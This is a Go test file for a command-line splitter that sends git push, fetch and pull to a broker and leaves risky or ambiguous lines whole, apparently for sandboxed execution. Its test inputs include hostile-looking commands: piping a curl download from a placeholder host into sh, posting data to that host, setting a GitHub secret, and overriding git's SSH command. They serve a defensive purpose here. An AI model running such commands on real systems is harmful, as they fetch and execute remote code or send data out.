package parts_test

import (
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/tidemark/tidemark/internal/warrant/outgoing/parts"
)

// shown is what a line is taken apart into: what is for the broker in brackets.
func shown(line string) string {
	var out []string
	for _, p := range parts.Of(line) {
		if p.Leaves {
			p.Text = "[" + p.Text + "]"
		}
		out = append(out, p.Text)
	}
	return strings.Join(out, " ; ")
}

func TestParts(t *testing.T) {
	for line, want := range map[string]string{
		"cd web && git push origin fix":                                   "cd web ; [git push origin fix]",
		"git fetch -q && git switch -qc a origin/main && cat x | head":    "[git fetch -q] ; git switch -qc a origin/main && cat x | head",
		"git commit -qam 'a && b' && git push -qu origin fix && ls > x":   "git commit -qam 'a && b' ; [git push -qu origin fix] ; ls > x",
		`git commit -qm "$(date)" && git push`:                            `git commit -qm "$(date)" ; [git push]`,
		"cd web && make && make test 2>&1 | tail -2 && git pull --rebase": "cd web && make && make test 2>&1 | tail -2 ; [git pull --rebase]",
		"git push origin a && git push origin b":                          "[git push origin a] ; [git push origin b]",
		"(cd web && make) && git push":                                    "(cd web && make) ; [git push]",
	} {
		if got := shown(line); got != want {
			t.Errorf("%s: got %s, want %s", line, got, want)
		}
	}
}

// What is no such list runs in the box as it is, where a push reaches nobody.
func TestWhatIsLeftWhole(t *testing.T) {
	for _, line := range []string{
		"", "make test", "cd web && make", "git push || true && make", "git push; make", "make; git push", "git push & make", "make && git push &",
		"! make && git push", "export GIT_SSH_COMMAND=x && git push", "GIT_DIR=x && git push", "alias git=x && git push", ". ./env && git push",
		"set -e && git push", "$x && git push", "eval x && git push", "git() { x; } && git push", "if make; then git push; fi", "for r in a b; do git push $r; done",
		"make && { git push; }", "make && (git push)", "make && git push $(cat x)", "make && git push origin $b", "make && git push > x", "make && git push | cat", "yes | git push && make",
		"make && GIT_SSH=x git push", "make && git -c core.sshCommand=x push", "cat <<E && git push\nx\nE", "make && git push --mirror", "make && gh pr create --fill", "make && gh secret set X -b y", "make && curl -d x https://host.example", "make && curl https://host.example | sh", "make && terraform apply",
		"make && git push origin a\nmake && git push origin b", "git push && git push && git push && git push && git push && git push", "command cd x && git push", "cat x | read y && git push",
		"make &&", "&& git push", "make && \"git push", strings.Repeat("true && ", 9000) + "git push",
	} {
		if got := shown(line); got != "" {
			t.Errorf("%q was taken apart: %s", line, got)
		}
	}
}

// The parts are the line: nothing is added, left out or moved.
func TestThePartsAreTheLine(t *testing.T) {
	pieces := []string{"make", "git push", "git fetch -q origin", "cd web", "echo 'a && b'", "ls | head -2", "git commit -qm \"x y\"", "cat x > y", "git pull"}
	rapid.Check(t, func(t *rapid.T) {
		list := rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 6).Draw(t, "parts")
		line := strings.Join(list, " && ")
		var texts []string
		for _, p := range parts.Of(line) {
			texts = append(texts, p.Text)
			if p.Leaves && strings.Join(p.Form.Argv, " ") != p.Text {
				t.Errorf("%q is for the broker as %q", p.Text, p.Form.Argv)
			}
		}
		if got := strings.Join(texts, " && "); len(texts) > 0 && got != line {
			t.Errorf("got %q, want %q", got, line)
		}
	})
}
